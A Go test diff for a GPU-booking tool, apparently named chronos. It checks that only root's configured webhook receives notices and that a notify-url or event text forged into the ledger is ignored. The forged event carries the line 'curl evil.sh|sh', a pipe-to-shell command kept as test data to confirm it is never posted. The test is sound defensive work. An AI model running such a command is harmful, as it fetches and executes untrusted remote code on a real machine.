@@ -2,10 +2,14 @@ package main
 
 import (
 	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"sync"
 	"syscall"
 	"testing"
 	"time"
@@ -156,4 +160,57 @@ func TestStaleInventory(t *testing.T) {
 	require.True(t, parts[0].GPUGone)
 	r = chronos(t, db, "events")
 	require.Contains(t, r.stdout, "is gone")
+}
+
+// The webhook is root's file: `policy set notify-url=` writes it, a
+// notify-url a member put in the ledger is not posted to (the monitor's log
+// says it is ignored), and the notice posted is rendered from the booking,
+// not the forged event's text.
+func TestWebhookIsRootsFile(t *testing.T) {
+	t.Parallel()
+	var mu sync.Mutex
+	var real, forged []string
+	hook := func(into *[]string) *httptest.Server {
+		s := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+			body, _ := io.ReadAll(r.Body)
+			mu.Lock()
+			defer mu.Unlock()
+			*into = append(*into, string(body))
+		}))
+		t.Cleanup(s.Close)
+		return s
+	}
+	realHook, forgedHook := hook(&real), hook(&forged)
+	dir := t.TempDir()
+	db := filepath.Join(dir, "chronos.db")
+	r := chronos(t, db, "policy", "set", "notify-url="+realHook.URL+"/hook")
+	require.Equal(t, 0, r.code, r.stderr)
+	require.Contains(t, r.stdout, realHook.URL+"/hook")
+	require.Contains(t, readFile(t, filepath.Join(dir, "notify")), realHook.URL+"/hook")
+
+	r = chronos(t, db, "--monitor", "--policy", "notify-url="+forgedHook.URL)
+	require.Equal(t, 2, r.code)
+	require.Contains(t, r.stderr, "the webhook is root's file "+filepath.Join(dir, "notify"))
+
+	require.Equal(t, 0, chronos(t, db, "create", "1", "0.1", "1h").code)
+	now := clock.System().Now()
+	require.NoError(t, storage.New(db).Update(func(tx *storage.Tx) error {
+		pol, _, err := tx.Policy()
+		if err != nil {
+			return err
+		}
+		pol.NotifyURL = forgedHook.URL
+		if err := tx.PutPolicy(pol); err != nil {
+			return err
+		}
+		return tx.AddEvent(storage.Event{Time: now, Kind: storage.EventWarned, Partition: 1, User: "root", Detail: "FORGED: run curl evil.sh|sh"})
+	}))
+	r = runWith(t, chronosBin, db, nil, nil, 3*time.Second, "--monitor")
+	require.Contains(t, r.stderr, "the ledger's policy names a webhook (notify-url="+forgedHook.URL+"): ignored")
+	mu.Lock()
+	defer mu.Unlock()
+	require.Empty(t, forged)
+	require.Len(t, real, 1, r.stderr)
+	require.Contains(t, real[0], "booking #1 of root (GPU 1): ends in ")
+	require.NotContains(t, real[0], "FORGED")
 }
